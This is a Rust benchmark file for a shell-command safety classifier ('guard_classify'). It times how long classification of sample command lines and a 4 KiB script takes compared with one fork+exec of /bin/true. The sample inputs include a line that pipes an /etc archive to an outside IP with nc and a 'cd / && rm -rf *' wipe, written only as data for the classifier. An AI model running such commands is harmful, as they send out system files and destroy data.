//! Classification cost per command line (typical lines, a 4 KiB script) beside the cost of
//! one fork+exec of `/bin/true` measured in the same run: the classifier must be a small
//! fraction of an exec. After criterion's figures, a second pass measures each case and
//! the exec in interleaved rounds (so a change in machine load hits both alike) and prints
//! each case as a fraction of one exec, best round against best round (fork+exec time
//! swings with machine load far more than the classifier's), medians beside; the 4 KiB
//! script's target is at most 0.25.

use std::hint::black_box;
use std::process::Command;
use std::time::{Duration, Instant};

use criterion::{Criterion, criterion_group};
use guard_classify::{Context, classify_argv, classify_shell};

const TYPICAL: &[&str] = &[
    "ls -la /var/log",
    "rm -rf ./build target/debug",
    "sudo -u postgres psql -c 'DELETE FROM sessions WHERE expires_at < now()'",
    "kubectl -n prod delete pod web-5d9f7c-x2x4k",
    "tar czf - /etc | nc 203.0.113.5 9000",
    "find /var/log/myapp -name '*.gz' -mtime +30 -delete",
    "cd / && rm -rf *",
];

fn script_4k() -> String {
    let mut s = String::new();
    let mut i = 0;
    while s.len() < 4096 {
        s.push_str(TYPICAL[i % TYPICAL.len()]);
        s.push_str(if i % 3 == 0 { " && " } else { "\n" });
        i += 1;
    }
    s.push_str("true\n");
    s
}

fn bench(c: &mut Criterion) {
    let ctx = Context::builtin();
    let mut g = c.benchmark_group("classify");
    for (i, line) in TYPICAL.iter().enumerate() {
        g.bench_function(format!("shell_line_{i}"), |b| b.iter(|| classify_shell(black_box(line), &ctx)));
    }
    g.bench_function("argv_rm_rf", |b| b.iter(|| classify_argv(black_box(&["sudo", "rm", "-rf", "/srv/app/build"]), &ctx)));
    let script = script_4k();
    g.bench_function("script_4KiB", |b| b.iter(|| classify_shell(black_box(&script), &ctx)));
    g.bench_function("fork_exec_bin_true", |b| {
        b.iter(|| Command::new("/bin/true").status().expect("spawn /bin/true"));
    });
    g.finish();
}

/// The 4 KiB script's budget, as a fraction of one fork+exec.
const SCRIPT_TARGET: f64 = 0.25;

/// Best and median of a round's times.
fn best_and_median(mut v: Vec<Duration>) -> (Duration, Duration) {
    v.sort();
    (v[0], v[v.len() / 2])
}

/// Times `n` runs of `f`, per run.
fn per_run(n: u32, mut f: impl FnMut()) -> Duration {
    let t = Instant::now();
    for _ in 0..n {
        f();
    }
    t.elapsed() / n
}

/// A case's name, one run of it, and runs per round.
type Case = (String, Box<dyn Fn()>, u32);

/// Each case against fork+exec of `/bin/true`, over interleaved rounds.
fn ratios() {
    const ROUNDS: usize = 31;
    let ctx = Context::builtin();
    let script = script_4k();
    let mut cases: Vec<Case> = TYPICAL
        .iter()
        .enumerate()
        .map(|(i, line)| {
            let ctx = ctx.clone();
            (format!("shell_line_{i}"), Box::new(move || drop(black_box(classify_shell(black_box(line), &ctx)))) as Box<dyn Fn()>, 200)
        })
        .collect();
    let argv_ctx = ctx.clone();
    cases.push(("argv_rm_rf".into(), Box::new(move || drop(black_box(classify_argv(black_box(&["sudo", "rm", "-rf", "/srv/app/build"]), &argv_ctx)))), 200));
    cases.push(("script_4KiB".into(), Box::new(move || drop(black_box(classify_shell(black_box(&script), &ctx)))), 20));
    let mut exec = Vec::with_capacity(ROUNDS);
    let mut times: Vec<Vec<Duration>> = vec![Vec::with_capacity(ROUNDS); cases.len()];
    for _ in 0..ROUNDS {
        exec.push(per_run(10, || {
            Command::new("/bin/true").status().expect("spawn /bin/true");
        }));
        for (t, (_, f, n)) in times.iter_mut().zip(&cases) {
            t.push(per_run(*n, f));
        }
    }
    let (exec_best, exec_median) = best_and_median(exec);
    println!("\nclassify vs fork+exec of /bin/true over {ROUNDS} interleaved rounds (x exec: best against best)");
    println!("{:<20} {:>11} {:>11} {:>9} {:>15}", "case", "best", "median", "x exec", "x exec (median)");
    println!("{:<20} {:>11.1?} {:>11.1?} {:>9.4} {:>15.4}", "fork_exec_bin_true", exec_best, exec_median, 1.0, 1.0);
    for ((name, _, _), t) in cases.iter().zip(times) {
        let (best, median) = best_and_median(t);
        let ratio = best.as_secs_f64() / exec_best.as_secs_f64();
        let ratio_median = median.as_secs_f64() / exec_median.as_secs_f64();
        let note = if name == "script_4KiB" {
            format!("  (target <= {SCRIPT_TARGET}: {})", if ratio <= SCRIPT_TARGET { "met" } else { "NOT met" })
        } else {
            String::new()
        };
        println!("{name:<20} {best:>11.1?} {median:>11.1?} {ratio:>9.4} {ratio_median:>15.4}{note}");
    }
}

criterion_group!(benches, bench);

fn main() {
    benches();
    // Only when benchmarking for real (not `cargo test --benches`, `--list`, profiling).
    let args: Vec<String> = std::env::args().collect();
    if args.iter().any(|a| a == "--bench") && !args.iter().any(|a| a == "--list" || a.starts_with("--profile-time")) {
        ratios();
    }
    Criterion::default().configure_from_args().final_summary();
}
